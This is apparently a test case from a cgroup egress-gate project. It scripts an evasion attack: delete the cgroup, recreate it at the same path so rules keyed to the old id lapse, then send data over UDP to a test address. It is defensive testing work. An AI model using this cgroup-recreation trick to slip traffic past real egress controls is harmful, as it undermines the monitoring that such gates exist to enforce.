# shellcheck shell=bash disable=SC2034,SC2329
# SPDX-License-Identifier: GPL-3.0-or-later
title='The cgroup removed and made again at the same path'
origin='RESEARCH §2.76'
reason='not_resolved'
forms=output
# The rules know a cgroup by its id.  Until the gate has seen the new one, nothing claims it (SECURITY.md): the attack waits for that.
attack() {
    local before
    if gate_on; then
        before=$(generation)
        h c sh -c 'find "$0" -depth -type d -exec rmdir {} \; && mkdir "$0"' "$CGROUPS$CGROUP" || return
        eventually 5 is_new "$before"
    fi
    tool send.py udp 198.18.3.66 9999 "$1"
}
generation() { h c "$SLUICE" status --json | jq .generation; }
is_new() { [ "$(generation)" != "$1" ]; }
